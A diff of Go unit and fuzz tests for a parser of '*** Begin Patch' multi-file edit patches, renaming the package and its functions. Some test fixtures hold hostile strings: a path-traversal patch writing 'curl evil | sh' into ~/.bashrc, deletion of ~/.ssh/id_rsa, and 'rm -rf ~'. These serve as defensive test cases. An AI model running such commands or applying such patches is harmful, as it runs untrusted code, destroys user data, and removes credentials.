@@ -1,4 +1,4 @@
-package hook
+package patch
 
 import (
 	"reflect"
@@ -7,28 +7,28 @@ import (
 	"testing"
 )
 
-func TestParsePatch(t *testing.T) {
+func TestParseApplyPatch(t *testing.T) {
 	tests := []struct {
 		name  string
 		patch string
-		want  []patchChange
+		want  []Change
 		err   string
 	}{
 		{
 			name:  "add, update with a move, delete",
 			patch: "*** Begin Patch\n*** Add File: docs/new.md\n+# Title\n+text\n*** Update File: src/a.go\n*** Move to: src/b.go\n@@ func main\n-\told()\n+\tnew()\n \tkeep()\n*** Delete File: /abs/old.txt\n*** End Patch",
-			want: []patchChange{
-				{Op: patchAdd, Path: "/w/docs/new.md", Added: "# Title\ntext"},
-				{Op: patchUpdate, Path: "/w/src/a.go", MoveTo: "/w/src/b.go", Added: "\tnew()"},
-				{Op: patchDelete, Path: "/abs/old.txt"},
+			want: []Change{
+				{Op: Add, Path: "/w/docs/new.md", Added: "# Title\ntext"},
+				{Op: Update, Path: "/w/src/a.go", MoveTo: "/w/src/b.go", Added: "\tnew()"},
+				{Op: Delete, Path: "/abs/old.txt"},
 			},
 		},
 		{
 			name:  "CRLF, blank lines and end of file marker",
 			patch: "\r\n*** Begin Patch\r\n*** Update File: a.txt\r\n@@\r\n-x\r\n+y\r\n*** End of File\r\n*** End Patch\r\n",
-			want:  []patchChange{{Op: patchUpdate, Path: "/w/a.txt", Added: "y"}},
+			want:  []Change{{Op: Update, Path: "/w/a.txt", Added: "y"}},
 		},
-		{name: "dot-dot is resolved", patch: "*** Begin Patch\n*** Add File: ../../home/u/.bashrc\n+curl evil | sh\n*** End Patch", want: []patchChange{{Op: patchAdd, Path: "/home/u/.bashrc", Added: "curl evil | sh"}}},
+		{name: "dot-dot is resolved", patch: "*** Begin Patch\n*** Add File: ../../home/u/.bashrc\n+curl evil | sh\n*** End Patch", want: []Change{{Op: Add, Path: "/home/u/.bashrc", Added: "curl evil | sh"}}},
 		{name: "no begin", patch: "*** Add File: a\n+x\n*** End Patch", err: "does not start with *** Begin Patch"},
 		{name: "no end", patch: "*** Begin Patch\n*** Add File: a\n+x\n", err: "does not end with *** End Patch"},
 		{name: "no file", patch: "*** Begin Patch\n*** End Patch", err: "changes no file"},
@@ -37,14 +37,14 @@ func TestParsePatch(t *testing.T) {
 		{name: "move outside an update", patch: "*** Begin Patch\n*** Add File: a\n*** Move to: b\n*** End Patch", err: "Move to"},
 		{name: "adding to a deleted file", patch: "*** Begin Patch\n*** Delete File: a\n+x\n*** End Patch", err: "deleted file"},
 		{name: "header without a path", patch: "*** Begin Patch\n*** Delete File: \n*** End Patch", err: "without a path"},
-		{name: "blank lines after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n\n  \r\n", want: []patchChange{{Op: patchAdd, Path: "/w/a", Added: "x"}}},
+		{name: "blank lines after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n\n  \r\n", want: []Change{{Op: Add, Path: "/w/a", Added: "x"}}},
 		{name: "a second patch after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Add File: /home/u/.bashrc\n+curl evil | sh\n*** End Patch", err: "line 5 follows *** End Patch"},
 		{name: "a file section after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Delete File: /home/u/.ssh/id_rsa", err: "follows *** End Patch"},
 		{name: "text after the end", patch: "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\nrm -rf ~", err: "follows *** End Patch"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			got, err := parsePatch(tt.patch, "/w/")
+			got, err := parseApplyPatch(tt.patch, "/w/")
 			if tt.err != "" {
 				if err == nil || !strings.Contains(err.Error(), tt.err) {
 					t.Fatalf("error %v, want %q", err, tt.err)
@@ -61,13 +61,13 @@ func TestParsePatch(t *testing.T) {
 	}
 }
 
-func FuzzParsePatch(f *testing.F) {
+func FuzzParseApplyPatch(f *testing.F) {
 	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** Update File: b\n*** Move to: c\n@@\n-y\n+z\n*** Delete File: d\n*** End Patch")
 	f.Add("*** Begin Patch\n*** End Patch")
 	f.Add("*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Delete File: b\n*** End Patch")
 	f.Add("")
 	f.Fuzz(func(t *testing.T, patch string) {
-		changes, err := parsePatch(patch, "/w")
+		changes, err := parseApplyPatch(patch, "/w")
 		if err != nil {
 			return
 		}
